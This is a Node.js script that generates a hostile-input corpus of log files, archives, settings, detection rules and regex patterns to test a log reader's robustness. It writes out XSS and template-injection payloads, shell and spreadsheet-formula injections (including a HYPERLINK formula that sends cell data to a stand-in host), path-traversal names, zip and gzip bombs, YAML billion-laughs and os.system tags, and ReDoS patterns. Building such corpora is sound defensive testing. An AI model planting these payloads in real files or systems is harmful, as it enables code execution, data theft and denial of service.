/**
 * Writes the hostile logs: every attack on a reader of logs that we know of, each in a file that is otherwise an ordinary log.
 *
 *     node tests/hostile/make.js [FOLDER]
 *
 * The files beside this one are what it wrote, and are what all tests read (`tests/hostile.rs`, `cli/tests/hostile.rs`,
 * `tests/browser/hostile_corpus.test.js`, the seeds of `fuzz/`). What fuzzing finds goes into `found/`, for ever.
 *
 * @module
 */

import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { crc32, gzipSync } from 'node:zlib';

const folder = process.argv[2] ?? dirname(fileURLToPath(import.meta.url));

/** Text that would be code somewhere: markup, events, addresses, styles, templates, formulas, Markdown, shells. */
export const CODE = [
  '<script>globalThis.obeyed = true; alert(1)</script>',
  '</script><script>globalThis.obeyed = true</script>',
  '<img src=x onerror="globalThis.obeyed = true">',
  '<svg/onload=globalThis.obeyed=true><a href="javascript:globalThis.obeyed=true">click</a>',
  '<math><mtext><table><mglyph><style><!--</style><img src=x onerror=globalThis.obeyed=true>',
  '<iframe srcdoc="<script>parent.obeyed = true</script>"></iframe>',
  '<object data="data:text/html,<script>parent.obeyed=true</script>"></object><embed src=javascript:alert(1)>',
  '<details open ontoggle=globalThis.obeyed=true><input autofocus onfocus=globalThis.obeyed=true>',
  '<link rel=stylesheet href=//hostile.invalid/x.css><meta http-equiv=refresh content="0;url=//hostile.invalid/">',
  '<form action=//hostile.invalid/><button>x</button></form><base href=//hostile.invalid/>',
  '<!-- <![CDATA[ ]]> --><style>*{background:url(//hostile.invalid/x)}</style>',
  '</textarea></title></style></noscript></template><b>bold</b>',
  '&lt;script&gt; &#60;script&#62; \\u003cscript\\u003e %3Cscript%3E',
  '"><script>globalThis.obeyed=true</script><" \' onmouseover=globalThis.obeyed=true x=\'',
  'javascript:globalThis.obeyed=true //%0aalert(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'background:url(javascript:alert(1)); width:expression(alert(1)); behavior:url(#default#time2)',
  '{{constructor.constructor("globalThis.obeyed=true")()}} ${globalThis.obeyed=true} #{7*7} <%= 7*7 %> {%debug%} *{7*7} @{7*7}',
  '{{#each x}}{{{y}}}{{/each}} [[${7*7}]] $(touch /tmp/x) `touch /tmp/x` ; touch /tmp/x | cat',
  '%s%s%s%n%x {0} {} %(name)s $1 \\1 \\g<0> $& $` $\'',
  '[click](javascript:alert(1)) ![x](//hostile.invalid/x.png) **bold** `code` | a | b |',
  '~~~\n<script>alert(1)</script>\n~~~'.replaceAll('\n', '\\n'),
];

/** Text that a spreadsheet would reckon with. */
export const FORMULAS = [
  '=HYPERLINK("//hostile.invalid/?x="&A1,"x")',
  "=cmd|' /C calc'!A0",
  '+1+cmd|x!A0',
  '-2+3+cmd|x!A0',
  '@SUM(1+1)*cmd|x!A0',
  '\t=1+1',
  '＝1+1',
  '＋1',
  '"=1+1","=2"',
  '=1+1;=2+2,\'=3',
];

/** Names that are something in JavaScript's objects, in file systems or in tables. */
export const NAMES = [
  '__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', '__defineGetter__', '__lookupSetter__',
  'then', 'length', 'name', 'null', 'undefined', 'NaN', 'Infinity', 'true', 'false', '0', '-0', '1e1000', '', ' ',
];

/** Marks that reorder, hide or join text, or that no text may hold; as bytes, for some are no Unicode. */
const MARKS = [
  text('bidi \u202egnp.exe\u202c \u2066x\u2069 \u200f\u061c end'),
  text('hidden a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg end'),
  text('colour \u001b[31mred\u001b[0m \u001b]0;title\u0007 \u001b]8;;//hostile.invalid\u0007link\u001b]8;;\u0007 \u009b31m end'),
  text('moves \u001b[2J\u001b[1;1H\u001b[?1049h \b\b\b\u007f \v\f end'),
  text('nul a\0b\0\0c end'),
  text(`combining Z${'\u0321\u034d\u0489'.repeat(60)} end`),
  text('tags \u{e0001}\u{e0041} private \ue000\u{10ffff} none \ufffe\uffff end'),
  text('separators a\u2028b\u2029c\u0085d end'),
  bytes(text('lone '), [0xed, 0xa0, 0x80], text(' low '), [0xed, 0xbf, 0xbf], text(' pair '), [0xed, 0xa0, 0xbd, 0xed, 0xb8, 0x80], text(' end')),
  bytes(text('overlong '), [0xc0, 0xaf, 0xe0, 0x80, 0xaf, 0xf0, 0x80, 0x80, 0xaf], text(' beyond '), [0xf4, 0x90, 0x80, 0x80, 0xf8, 0x88, 0x80, 0x80, 0x80], text(' cut '), [0xe2, 0x82], text(' end')),
  bytes(text('every '), Array.from({ length: 256 }, (_, byte) => byte).filter((byte) => byte !== 10 && byte !== 13), text(' end')),
];

/** Instants at the edges of calendars and of numbers. */
const TIMES = [
  '0000-01-01T00:00:00Z', '0000-12-31T23:59:59.999Z', '0001-01-01T00:00:00Z', '9999-12-31T23:59:59.999999999Z', '10000-01-01T00:00:00Z',
  '-0001-01-01T00:00:00Z', '+275760-09-13T00:00:00Z', '2016-12-31T23:59:60Z', '2016-12-31T23:59:61Z', '2026-03-01T24:00:00Z', '2026-03-01T25:61:61Z',
  '2024-02-29T00:00:00Z', '2023-02-29T00:00:00Z', '1900-02-29T00:00:00Z', '0000-00-00T00:00:00Z', '2026-13-32T00:00:00Z',
  '1970-01-01T00:00:00Z', '1969-12-31T23:59:59.999Z', '2038-01-19T03:14:08Z', '2026-03-01T10:00:00+14:00', '2026-03-01T10:00:00-12:00',
  '2026-03-01T10:00:00+99:99', '0000-01-01T00:00:00+14:00', '9999-12-31T23:59:59-12:00', '2026-03-29T02:30:00+01:00', '2026-03-01T10:00:00.99999999999999999999Z',
];

const NUMBERS = [
  '0', '-0', '-1', '1', '999999999', '4294967296', '9999999999', '99999999999', '253402300800', '8640000000000000', '8640000000000001',
  '9007199254740993', '9223372036854775807', '9223372036854775808', '-9223372036854775808', '18446744073709551616', '1e308', '1e999', '-1e999',
  '1e-999', '0.1', '1772359200.000000001', 'NaN', 'Infinity', `1${'0'.repeat(400)}`, `0.${'0'.repeat(400)}1`,
];

if (process.argv[1] === fileURLToPath(import.meta.url)) writeAll();

function writeAll() {
  for (const sub of ['', 'settings', 'rules', 'labels', 'patterns', 'found']) mkdirSync(join(folder, sub), { recursive: true });
  writeLogs();
  writeContainers();
  writeBeside();
}

function writeLogs() {
  write('code.log', calm(CODE.map((one) => text(`ERROR ${one}`))));
  write('bare_code.log', untimed(CODE.map(text)));
  write('formulas.log', calm(FORMULAS.map(text)));
  write('bare_formulas.log', untimed(FORMULAS.map(text)));
  write('marks.log', calm(MARKS.map((one) => bytes(text('ERROR '), one))));
  write('crlf.log', bytes(...lines(600).map((line, index) => bytes(line, [[13, 10], [13], [10, 13], [13, 13, 10]][index % 4]))));
  write('names.jsonl', calmOf(json, NAMES.flatMap((name) => [nameAsField(name), nameAsValue(name)])));
  write('names.logfmt', calmOf(logfmt, NAMES.map((name) => text(`time=2026-03-01T10:40:30Z level=error ${name || '""'}=1 host=${quoted(name)} user=${quoted(name)} msg="field ${name}"`))));
  write('names_auth.log', joined(authLines()));
  write('names_access.log', joined(accessLines()));
  write('names.csv', joined(csvLines()));
  write('deep.jsonl.gz', gzip(calmOf(json, deepLines())));
  write('times_iso.log', joined([...lines(400), ...TIMES.flatMap((time) => [text(`${time} ERROR at the edge ${time}`), text(`${time.replace('T', ' ').replace('Z', '')} ERROR at the edge`)])]));
  write('times_epoch.jsonl', joined([...range(400).map(json), ...NUMBERS.map((number) => text(`{"timestamp":${number},"level":"error","message":"at the edge ${number}"}`)), ...TIMES.map((time) => text(`{"timestamp":"${time}","level":"error","message":"at the edge"}`))]));
  write('times_syslog.log', joined([...range(400).map(syslog), ...['Feb 29 00:00:00', 'Feb 30 00:00:00', 'Dec 31 23:59:60', 'Jan  0 00:00:00', 'Jan 32 24:00:00', 'Dec 31 23:59:59', 'Jan  1 00:00:00'].map((time) => text(`${time} gate sshd[1]: at the edge`))]));
  write('numbers.log', calm(NUMBERS.map((number) => text(`WARN took ${number} ms, sent ${number} bytes, latency_ms=${number} size=${number}kB ${number}%`))));
  write('backtracking.log.gz', gzip(calm(['a', 'ab', '0', ' ', '"', '\\', '%25', '<', '{', '[', '=', '/*', '../', "'"].map((one) => text(`ERROR ${one.repeat(Math.floor(20_000 / one.length))}!`)).concat(backtrackingRequests()))));
}

function writeContainers() {
  write('long_line.log.gz', gzip(bytes(joined(lines(200)), text('x'.repeat(8 << 20)), text('\n'), text(`2026-03-01T10:30:00Z ERROR ${'y '.repeat(40_000)}\n`), text('\0'.repeat(100)), text('\n'))));
  write('many_templates.log.gz', gzip(joined(range(20_000).map((at) => text(`${time(at)} INFO ${word(at * 3)} ${word(at * 3 + 1)} ${word(at * 3 + 2)}`)))));
  write('bomb.gz', gzip(gzip(text(`${'2026-03-01T10:00:00Z INFO x\n'.repeat(1_200_000)}`))));
  write('bomb_of_zeros.gz', gzip(new Uint8Array(64 << 20)));
  const inner = zip(range(8).map((at) => ({ name: text(`part${at}.log.gz`), content: gzip(joined(lines(50))) })));
  write('nested.zip', zip(range(5).map((at) => ({ name: text(`inner${at}.zip`), content: inner }))));
  write('many_entries.zip.gz', gzip(zip(range(12_000).map((at) => ({ name: text(`e${at}`), content: text(at === 7 ? '2026-03-01T10:00:00Z INFO x\n'.repeat(9) : '') })))));
  const names = ['../../../../etc/passwd', '/etc/shadow', 'C:\\Windows\\x.log', '..\\..\\x.log', 'CON', '<img src=x onerror=globalThis.obeyed=true>.log', '\u202egol.exe', 'a\nb.log', '=cmd|x!A0.log', '__proto__', 'constructor', '', ' ', '.', 'a/../b.log', 'x'.repeat(3000), 'same.log', 'same.log', 'nul\0.log', '\u001b[31mred.log', 'javascript:alert(1)'];
  const entries = names.map((name) => ({ name: text(name), content: joined(lines(60)) }));
  write('names.zip', zip([...entries, { name: new Uint8Array([0xff, 0xfe, 0xed, 0xa0, 0x80]), content: joined(lines(60)) }]));
  write('overlapping.zip', overlapping());
  write('lying.zip', lying());
}

function writeBeside() {
  const settings = {
    proto: '{"__proto__": {"budget": 1}, "constructor": {"prototype": {"budget": 1}}, "budget": 3}',
    numbers: '{"budget": 4294967296, "seed": -1, "window_seconds": 1e999}',
    tiny: '{"window_seconds": 5e-324}',
    huge: '{"window_seconds": 1e308, "session_gap": 4294967295, "unpack_limit": 4294967295}',
    nan: '{"window_seconds": NaN}',
    types: '{"budget": "3", "seed": [], "files": {"a": 1}, "expected": "x", "hunt": null}',
    deep: `${'['.repeat(20_000)}`,
    deep_objects: `${'{"hunt":'.repeat(5_000)}`,
    twice: '{"budget": 3, "budget": 4}',
    names: JSON.stringify({ files: NAMES.map((name) => ({ name, format: name, pattern: name, zone: name })), expected: [] }),
    surrogates: '{"pattern": "\\ud800", "zone": "\\udfff\\ud800"}',
    network: '{"session_key": "auto", "sequence": {"model": "lstm", "hidden": 4294967295, "epochs": 4294967295, "window": 4294967295}}',
    forest: '{"trees": 4294967295, "autoencoder": {"hidden": 4294967295, "latent": 4294967295, "epochs": 4294967295, "batch": 0, "learning_rate": -1e308, "starts": 4294967295}}',
  };
  for (const [name, content] of Object.entries(settings)) write(`settings/${name}.json`, text(content));
  const rule = (/** @type {string} */ detection) => `title: <img src=x onerror=globalThis.obeyed=true>\nid: __proto__\nlevel: high\nlogsource:\n  product: linux\n  service: sshd\ndetection:\n${detection}\n`;
  const rules = {
    laughs: `a: &a [x,x,x,x,x,x,x,x,x]\n${range(20).map((at) => `${letter(at + 1)}: &${letter(at + 1)} [*${letter(at)},*${letter(at)},*${letter(at)},*${letter(at)},*${letter(at)}]`).join('\n')}\n`,
    deep: rule(`  k:\n${range(300).map((at) => `${' '.repeat(4 + at)}a:`).join('\n')}\n  condition: k`),
    brackets: rule(`  k: ${'['.repeat(20_000)}\n  condition: k`),
    condition: rule(`  k:\n    - x\n  condition: ${'('.repeat(20_000)}k`),
    nots: rule(`  k:\n    - x\n  condition: ${'not '.repeat(20_000)}k`),
    many: rule(`  k:\n${range(3000).map((at) => `    - '*${word(at)}*?*'`).join('\n')}\n  condition: k`),
    regex: rule("  k:\n    message|re: '(a+)+$|(x{1000}){1000}'\n  condition: k"),
    names: rule(`  __proto__:\n    constructor: toString\n  condition: __proto__`),
    tag: 'title: !!js/function "globalThis.obeyed = true"\ndetection: !!python/object/apply:os.system ["true"]\n',
  };
  for (const [name, content] of Object.entries(rules)) write(`rules/${name}.yml`, text(content));
  write('labels/names.csv', text(`session,label\n${NAMES.map((name) => `${quoted(name)},${name === 'then' ? 'anomaly' : 'normal'}`).join('\n')}\n`));
  write('labels/formulas.csv', text(`session,label\n${FORMULAS.map((one) => `"${one.replaceAll('"', '""')}",anomaly`).join('\n')}\n`));
  write('labels/open_quote.csv', text(`session,label\n"${'x,'.repeat(10_000)}`));
  write('labels/wide.csv', text(`session,label${',x'.repeat(5_000)}\na${',b'.repeat(5_001)}\n`));
  // One a line: expressions that take exponential time elsewhere, are too large, or are none.
  const patterns = [
    '(a+)+$', '(a|a)*b', '(a|aa)+$', '(.*)*x', '(.*a){25}', '^(([a-z])+.)+[A-Z]([a-z])+$', '([a-zA-Z]+)*!', '(?P<message>(x+x+)+y)', '(?P<time>(.*)*)(?P<message>.*)',
    '(x{1000}){1000}', '((a{100}){100}){100}', '(?:a?){5000}a{5000}', '(?=a)', '(?<!a)b', '(a)\\1', '[', '(', '*', '\\', '(?P<__proto__>.*)', '(?P<message>.*)(?P<message>.*)',
    '%{GREEDYDATA:message}%{GREEDYDATA:message}', '%{__proto__:message}', '%{', '%Y%Y%Y', '%', '%Q', '%s%s%s%s', '('.repeat(2000), `${'(?:'.repeat(300)}a${')'.repeat(300)}`, '', '\u202e', '(?i)(?P<message>ſ+)',
  ];
  write('patterns/patterns.txt', text(`${patterns.join('\n')}\n`));
}

/** @param {string} name @param {Uint8Array} content */
function write(name, content) {
  writeFileSync(join(folder, name), content);
}

/** An hour of a calm service, and in its fortieth minute what is hostile, twelve times over. @param {Uint8Array[]} hostile */
function calm(hostile) {
  const burst = range(12).flatMap((second) => hostile.map((one) => bytes(text(`2026-03-01T10:40:${two(second * 4)}Z `), one)));
  return joined([...lines(400), ...burst, ...range(200).map((at) => line(400 + at))]);
}

/** @param {(at: number) => Uint8Array} ordinary @param {Uint8Array[]} hostile */
function calmOf(ordinary, hostile) {
  return joined([...range(400).map(ordinary), ...hostile, ...hostile, ...hostile, ...range(200).map((at) => ordinary(400 + at))]);
}

/** Lines without a time, for a log that is nothing but text. @param {Uint8Array[]} hostile */
function untimed(hostile) {
  return joined([...range(300).map((at) => text(`worker ${at % 4} finished job ${at}`)), ...hostile, ...hostile, ...range(200).map((at) => text(`worker ${at % 4} finished job ${at}`))]);
}

/** @param {number} at */
function line(at) {
  return text(`${time(at)} INFO worker ${at % 4} finished job ${at} in ${30 + (at % 7)} ms`);
}

/** @param {number} count */
function lines(count) {
  return range(count).map(line);
}

/** @param {number} at */
function json(at) {
  return text(`{"time":"${time(at)}","level":"info","host":"web${at % 2}","user":"ann${at % 5}","message":"job ${at} ended"}`);
}

/** @param {number} at */
function logfmt(at) {
  return text(`time=${time(at)} level=info host=web${at % 2} user=ann${at % 5} msg="job ${at} ended"`);
}

/** @param {number} at */
function syslog(at) {
  return text(`Mar  1 10:${two(Math.floor(at / 10) % 60)}:${two((at % 10) * 6)} gate sshd[${100 + at}]: Accepted publickey for ann${at % 5} from 192.0.2.${at % 5} port 22 ssh2`);
}

/** @param {string} name */
function nameAsField(name) {
  return text(`{"time":"2026-03-01T10:40:30Z","level":"error",${JSON.stringify(name)}:{"${name}":["x",{${JSON.stringify(name)}:1}]},"message":"a field"}`);
}

/** @param {string} name */
function nameAsValue(name) {
  return text(`{"time":"2026-03-01T10:40:31Z","level":"error","host":${JSON.stringify(name)},"user":${JSON.stringify(name)},"process":${JSON.stringify(name)},"session":${JSON.stringify(name)},"message":"a value ${name}"}`);
}

/** Failed logins of users, hosts and processes whose names are hostile. */
function authLines() {
  const names = [...NAMES.filter((name) => name.trim()), ...CODE.slice(0, 6).map((one) => one.replaceAll(' ', '')), ...FORMULAS.slice(0, 5).map((one) => one.replaceAll(' ', '')), '\u202egnp'];
  const failed = names.flatMap((name, number) =>
    range(12).map((at) => text(`Mar  1 11:${two(number % 60)}:${two(at)} ${name.slice(0, 60)} sshd[${7000 + number}]: Failed password for invalid user ${name} from 203.0.113.${number} port 22 ssh2`)),
  );
  const processes = names.map((name, at) => text(`Mar  1 11:50:${two(at % 60)} gate ${name}[1]: something of ${name}`));
  return [...range(300).map(syslog), ...failed, ...processes];
}

/** Requests that attack what reads them, from users whose names are hostile. */
function accessLines() {
  const request = (/** @type {number} */ at, /** @type {string} */ user, /** @type {string} */ path, /** @type {string} */ agent) =>
    text(`203.0.113.${at % 250} - ${user} [01/Mar/2026:10:${two(Math.floor(at / 60) % 60)}:${two(at % 60)} +0000] "GET ${path} HTTP/1.1" ${at % 3 ? 200 : 404} 512 "-" "${agent}"`);
  const hostile = [...CODE, ...FORMULAS, ...NAMES.filter(Boolean)].flatMap((one, at) => [
    request(400 + at, one.replaceAll(/[\s"]/g, '').slice(0, 40) || '-', `/a?q=${encodeURIComponent(one)}`, one.replaceAll('"', '\\"')),
    request(400 + at, '-', `/${one.replaceAll(' ', '+').replaceAll('"', '%22')}`, 'Mozilla/5.0'),
  ]);
  return [...range(400).map((at) => request(at, '-', `/page/${at % 9}`, 'Mozilla/5.0')), ...hostile, ...hostile, ...range(200).map((at) => request(500 + at, '-', `/page/${at % 9}`, 'Mozilla/5.0'))];
}

function csvLines() {
  const header = `time,level,${NAMES.map(quoted).join(',')},message`;
  const row = (/** @type {number} */ at, /** @type {string} */ message) => `${time(at)},INFO,${NAMES.map((_, column) => column).join(',')},"${message.replaceAll('"', '""')}"`;
  return [header, ...range(300).map((at) => row(at, `job ${at} ended`)), ...[...CODE, ...FORMULAS].map((one, at) => row(310 + at, one)), '"'.repeat(5001), ','.repeat(5000)].map(text);
}

function deepLines() {
  const wrap = (/** @type {string} */ inner) => `{"time":"2026-03-01T10:40:30Z","level":"error","message":"deep","x":${inner}}`;
  return [
    wrap('['.repeat(10_000)), wrap(`${'['.repeat(10_000)}${']'.repeat(10_000)}`), wrap(`${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}`), '['.repeat(20_000), '{"a":'.repeat(5_000),
    wrap(`"${'\\'.repeat(9_999)}`), wrap(`"${'\\ud800'.repeat(2_000)}"`), wrap(`{${range(3_000).map((at) => `"k${at}":${at}`).join(',')}}`), wrap(`"${'\\u0000'.repeat(100)}"`),
  ].map(text);
}

/** Requests that take what backtracks a very long time. */
function backtrackingRequests() {
  const values = ['/*'.repeat(3000), "'".repeat(3000), '%25'.repeat(1500), '../'.repeat(2000), '<'.repeat(4000), 'union '.repeat(800), ';'.repeat(4000)];
  return values.map((value) => text(`203.0.113.9 - - [01/Mar/2026:10:40:30 +0000] "GET /a?x=${value} HTTP/1.1" 200 5 "-" "-"`));
}

/** A zip whose entries all have the same bytes: forty that would be forty times as much. */
function overlapping() {
  const content = gzip(text('2026-03-01T10:00:00Z INFO x\n'.repeat(10_000)));
  const whole = zip([{ name: text('a.gz'), content }]);
  const start = find(whole, [0x50, 0x4b, 1, 2]);
  const end = find(whole, [0x50, 0x4b, 5, 6]);
  const entry = whole.slice(start, end);
  const tail = new DataView(whole.slice(end).buffer);
  tail.setUint16(8, 40, true);
  tail.setUint16(10, 40, true);
  tail.setUint32(12, entry.length * 40, true);
  return bytes(whole.slice(0, start), ...range(40).map(() => entry), new Uint8Array(tail.buffer));
}

/** A zip whose directory says that its entry has 4 GB. */
function lying() {
  const whole = zip([{ name: text('a.log'), content: joined(lines(60)) }]);
  const view = new DataView(whole.buffer);
  const start = find(whole, [0x50, 0x4b, 1, 2]);
  view.setUint32(start + 20, 0xfffffffe, true);
  view.setUint32(start + 24, 0xfffffffe, true);
  return whole;
}

/**
 * A zip of entries that are stored as they are. APPNOTE.TXT 6.3.10, 4.3.
 * @param {{name: Uint8Array, content: Uint8Array}[]} entries
 */
function zip(entries) {
  const parts = [];
  const directory = [];
  let offset = 0;
  for (const { name, content } of entries) {
    const common = [...half(20), ...half(0), ...half(0), ...half(0), ...half(0x5c61), ...word32(crc32(content)), ...word32(content.length), ...word32(content.length), ...half(name.length), ...half(0)];
    const local = bytes([0x50, 0x4b, 3, 4], common, name, content);
    parts.push(local);
    directory.push(bytes([0x50, 0x4b, 1, 2], half(20), common, half(0), half(0), half(0), word32(0), word32(offset), name));
    offset += local.length;
  }
  const listed = bytes(...directory);
  return bytes(...parts, listed, [0x50, 0x4b, 5, 6], half(0), half(0), half(entries.length), half(entries.length), word32(listed.length), word32(offset), half(0));
}

/** Always the same bytes: no date, and no name. @param {Uint8Array} content */
function gzip(content) {
  return gzipSync(content, { level: 9 });
}

/** @param {Uint8Array} whole @param {number[]} mark */
function find(whole, mark) {
  return Buffer.from(whole).indexOf(Buffer.from(mark));
}

/** @param {Uint8Array[]} all */
function joined(all) {
  return bytes(...all.flatMap((one) => [one, text('\n')]));
}

/** @param {...(Uint8Array | number[])} parts */
function bytes(...parts) {
  return new Uint8Array(Buffer.concat(parts.map((part) => Uint8Array.from(part))));
}

/** @param {string} content */
function text(content) {
  return new TextEncoder().encode(content);
}

/** @param {number} at */
function time(at) {
  return `2026-03-01T10:${two(Math.floor(at / 10) % 60)}:${two((at % 10) * 6)}Z`;
}

/** @param {string} value */
function quoted(value) {
  return /^[\w.-]+$/.test(value) ? value : `"${value}"`;
}

/** A word that no other number has. @param {number} at */
function word(at) {
  let state = (at + 1) * 2654435761;
  return range(7).map(() => letter((state = (Math.imul(state, 1103515245) + 12345) >>> 3) % 26)).join('') + letter(at % 26);
}

/** @param {number} at */
function letter(at) {
  return String.fromCharCode(97 + at);
}

/** @param {number} count */
function range(count) {
  return Array.from({ length: count }, (_, at) => at);
}

/** @param {number} value */
function two(value) {
  return String(value).padStart(2, '0');
}

/** @param {number} value */
function half(value) {
  return [value & 255, value >> 8];
}

/** @param {number} value */
function word32(value) {
  return [value & 255, (value >>> 8) & 255, (value >>> 16) & 255, value >>> 24];
}
